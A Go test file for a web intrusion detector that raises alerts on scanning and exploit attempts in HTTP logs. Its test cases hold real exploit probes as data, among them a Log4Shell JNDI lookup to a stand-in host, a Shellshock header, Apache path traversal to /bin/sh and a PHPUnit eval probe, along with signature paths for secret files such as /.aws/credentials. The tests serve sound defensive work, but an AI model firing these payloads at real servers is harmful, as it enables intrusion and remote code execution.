package detect

import (
	"fmt"
	"testing"
	"time"

	"github.com/attackmap/attackmap/incident"
)

func TestWebScanRaisesAfterTenDistinctNotFoundPaths(t *testing.T) {
	e := New(every())
	for i := range 10 {
		got := bySource(feed(t, e, httpReq(attacker, at(time.Duration(i)*time.Second), "GET", fmt.Sprintf("/page%d.php", i), 404, "Mozilla/5.0")), "web_scan")
		if i < 9 && len(got) != 0 {
			t.Fatalf("raised at path %d", i+1)
		}
		if i == 9 && (len(got) != 1 || got[0].Severity != incident.Medium || len(got[0].Evidence.Paths) != 10) {
			t.Fatalf("10th path: %+v", got)
		}
	}
}

func TestWebScanIgnoresStaticAndRepeatedNotFound(t *testing.T) {
	e := New(every())
	for i := range 100 {
		ts := at(time.Duration(i) * time.Second)
		got := feed(t, e,
			httpReq(attacker, ts, "GET", fmt.Sprintf("/img/p%d.png", i), 404, "Mozilla/5.0"),
			httpReq(attacker, ts, "GET", "/favicon.ico", 404, "Mozilla/5.0"),
			httpReq(attacker, ts, "GET", "/missing", 404, "Mozilla/5.0"),
			httpReq(attacker, ts, "GET", fmt.Sprintf("/post/%d", i), 200, "Mozilla/5.0"))
		if len(got) != 0 {
			t.Fatalf("raised %+v", got)
		}
	}
}

func TestWebScanRaisesAtOnceForSignatures(t *testing.T) {
	cases := []struct {
		path, ua string
		status   int
		why      string
	}{
		{"/.env", "Mozilla/5.0", 404, "a request for /.env"},
		{"/.git/config", "Mozilla/5.0", 404, "a request for /.git/"},
		{"/backup/db.sql.gz", "Mozilla/5.0", 404, "a request for .sql"},
		{"/.aws/credentials", "Mozilla/5.0", 404, "a request for /.aws/credentials"},
		{"/static/../../etc/shadow", "Mozilla/5.0", 400, "a path traversal"},
		{"/", "sqlmap/1.7.2#stable (https://sqlmap.org)", 200, "the scanner user agent sqlmap"},
		{"/phpmyadmin/", "Mozilla/5.0", 404, "admin interface probing (/phpmyadmin)"},
	}
	for _, c := range cases {
		t.Run(c.path, func(t *testing.T) {
			got := bySource(feed(t, New(every()), httpReq(attacker, t0, "GET", c.path, c.status, c.ua)), "web_scan")
			if len(got) != 1 || got[0].Count != 1 {
				t.Fatalf("got %+v", got)
			}
			want := "1 suspicious request to 1 distinct path in under a second, starting with " + c.why
			if got[0].Summary != want {
				t.Fatalf("summary %q, want %q", got[0].Summary, want)
			}
		})
	}
}

func TestWebScanIgnoresAnAdminPageThatAnswers(t *testing.T) {
	got := feed(t, New(every()), httpReq(attacker, t0, "GET", "/wp-admin/", 302, "Mozilla/5.0"))
	if len(got) != 0 {
		t.Fatalf("raised %+v", got)
	}
}

func TestExploitAttemptRaisesHighAtTheFirstProbe(t *testing.T) {
	cases := []struct{ path, ua, tag string }{
		{"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "Mozilla/5.0", "cve-2017-9841"},
		{"/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "-", "cve-2021-41773"},
		{"/?x=${jndi:ldap://198.51.100.1/a}", "Mozilla/5.0", "cve-2021-44228"},
		{"/", "() { :; }; /bin/bash -c 'id'", "cve-2014-6271"},
		{"/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5", "Mozilla/5.0", ""},
	}
	for _, c := range cases {
		t.Run(c.path, func(t *testing.T) {
			got := bySource(feed(t, New(every()), httpReq(attacker, t0, "GET", c.path, 404, c.ua)), "exploit_attempt")
			if len(got) != 1 || got[0].Severity != incident.High || got[0].Title != "Exploit attempt" {
				t.Fatalf("got %+v", got)
			}
			if c.tag != "" && (len(got[0].Tags) != 1 || got[0].Tags[0] != c.tag) {
				t.Fatalf("tags %v, want %s", got[0].Tags, c.tag)
			}
		})
	}
}

func TestExploitAttemptIgnoresOrdinaryRequests(t *testing.T) {
	e := New(every())
	for _, p := range []string{"/", "/blog/php-unit-testing", "/cgi-bin/status", "/search?q=jndi"} {
		if got := bySource(feed(t, e, httpReq(attacker, t0, "GET", p, 200, "Mozilla/5.0")), "exploit_attempt"); len(got) != 0 {
			t.Fatalf("%s raised %+v", p, got)
		}
	}
}
